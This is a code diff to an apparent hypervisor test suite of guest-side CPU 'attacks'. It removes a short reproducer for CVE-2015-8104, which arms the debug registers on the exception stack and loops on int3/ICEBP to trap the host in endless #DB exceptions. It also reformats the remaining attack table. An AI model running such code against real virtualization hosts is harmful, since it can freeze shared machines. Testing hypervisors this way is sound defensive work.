@@ -189,30 +189,6 @@ static u64 cr_games(struct random *rnd, u64 count)
 	return done;
 }
 
-/*
- * CVE-2015-8104: the delivery of #DB writes to where a data breakpoint is,
- * which causes a #DB, without an instruction in between.
- */
-static u64 db_loop(struct random *rnd, u64 count)
-{
-	u64 top = exception_stack_top();
-
-	(void)rnd;
-	(void)count;
-	on_its_way();
-	asm volatile("mov %0, %%dr0; mov %1, %%dr1\n\t"
-		     "mov %2, %%dr2; mov %3, %%dr3"
-		     :
-		     : "r"(top - 8), "r"(top - 16), "r"(top - 24),
-		       "r"(top - 32));
-	idt_set_bare(1);
-	/* Four write breakpoints of 8 bytes. */
-	asm volatile("mov %0, %%dr7" : : "r"(0x999905ffUL));
-	for (;;)
-		asm volatile("int3; .byte 0xf1"); /* ICEBP */
-	return 0;
-}
-
 /* Each instruction traps, those that exit among them. */
 static volatile u64 steps;
 
@@ -316,11 +292,7 @@ static u64 real_mode(struct random *rnd, u64 count)
 }
 
 const struct attack cpu_attacks[] = {
-	{ "vmx", virtualization, 0 },
-	{ "xsetbv", xsetbv_games, 1000 },
-	{ "cr", cr_games, 2000 },
-	{ "db", db_loop, 0 },
-	{ "step", single_step, 50 },
-	{ "real", real_mode, 4000000000 },
-	{ NULL, NULL, 0 },
+	{ "vmx", virtualization, 0 },	   { "xsetbv", xsetbv_games, 1000 },
+	{ "cr", cr_games, 2000 },	   { "step", single_step, 50 },
+	{ "real", real_mode, 4000000000 }, { NULL, NULL, 0 },
 };
